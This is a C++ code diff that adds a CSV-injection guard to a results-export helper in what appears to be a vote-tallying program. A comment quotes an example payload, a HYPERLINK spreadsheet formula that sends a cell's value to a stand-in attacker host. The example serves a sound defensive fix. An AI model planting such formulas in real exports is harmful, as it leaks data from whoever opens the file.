@@ -68,17 +68,6 @@ TallyError ballot_failure(StoreError error) {
     }
 }
 
-std::string csv_field(std::string text) {
-    // Quote when needed, doubling quotes, so that titles with ';' stay in their column.
-    if (text.find_first_of(";\"\r\n") == std::string::npos) return text;
-    std::string out = "\"";
-    for (char ch : text) {
-        if (ch == '"') out += '"';
-        out += ch;
-    }
-    return out + "\"";
-}
-
 }  // namespace
 
 // ---- pure steps ----------------------------------------------------------------------------
@@ -189,6 +178,24 @@ boost::system::result<storage::SignedResults, std::string> finish_tally(
                 "the results document holds a floating-point number"};
     auto signature = sign_base64(key, *text);
     return storage::SignedResults{std::move(*text), std::move(signature), public_key_base64(key)};
+}
+
+std::string csv_field(std::string_view text) {
+    // A cell that starts with one of these is a formula to a spreadsheet (OWASP "CSV injection"):
+    // a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on the Mission's machine.
+    // The leading quote makes it text, and quoting the cell keeps that quote inside it.
+    constexpr std::string_view formula_starts = "=+-@\t\r";
+    const bool formula =
+        !text.empty() && formula_starts.find(text.front()) != std::string_view::npos;
+    // Quote when needed, doubling quotes, so that titles with ';' stay in their column.
+    if (!formula && text.find_first_of(";\"\r\n") == std::string_view::npos)
+        return std::string(text);
+    std::string out = formula ? "\"'" : "\"";
+    for (char ch : text) {
+        if (ch == '"') out += '"';
+        out += ch;
+    }
+    return out + "\"";
 }
 
 std::string results_csv(const json::object& doc) {
